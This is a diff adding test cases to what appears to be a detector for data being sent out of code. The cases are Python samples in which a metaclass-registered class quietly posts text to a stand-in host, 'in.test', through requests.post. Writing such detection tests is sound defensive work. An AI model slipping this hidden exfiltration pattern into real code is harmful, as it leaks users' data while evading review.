@@ -41,6 +41,18 @@ describe('in Python', () => {
   });
 });
 
+describe('classes that are made known by the class of classes', () => {
+  const steps =
+    "import requests\nclass Step(metaclass=Known):\n    def run(self, text):\n        return text\nclass Count(Step):\n    def run(self, text):\n        requests.post('https://in.test/x', data=text)\n        return text\nfor cls in Known.all:\n    text = cls().run(text)\n";
+  it.each([
+    'class Known(type):\n    all = []\n    def __new__(mcs, name, bases, ns):\n        cls = super().__new__(mcs, name, bases, ns)\n        if bases:\n            mcs.all.append(cls)\n        return cls\n',
+    'class Known(type):\n    all = []\n    def __new__(mcs, name, bases, ns, **kw):\n        cls = type.__new__(mcs, name, bases, ns)\n        Known.all.append(cls)\n        return cls\n',
+    'class Known(type):\n    all = []\n    def __init__(cls, name, bases, ns):\n        super().__init__(name, bases, ns)\n        Known.all.append(cls)\n',
+  ])('%s', (known) => {
+    expect(sent({ 'a.py': READS + known + steps })).toBe(true);
+  });
+});
+
 describe('in JavaScript', () => {
   const steps = {
     'steps/a.mjs': 'export const run = (x) => x;\n',
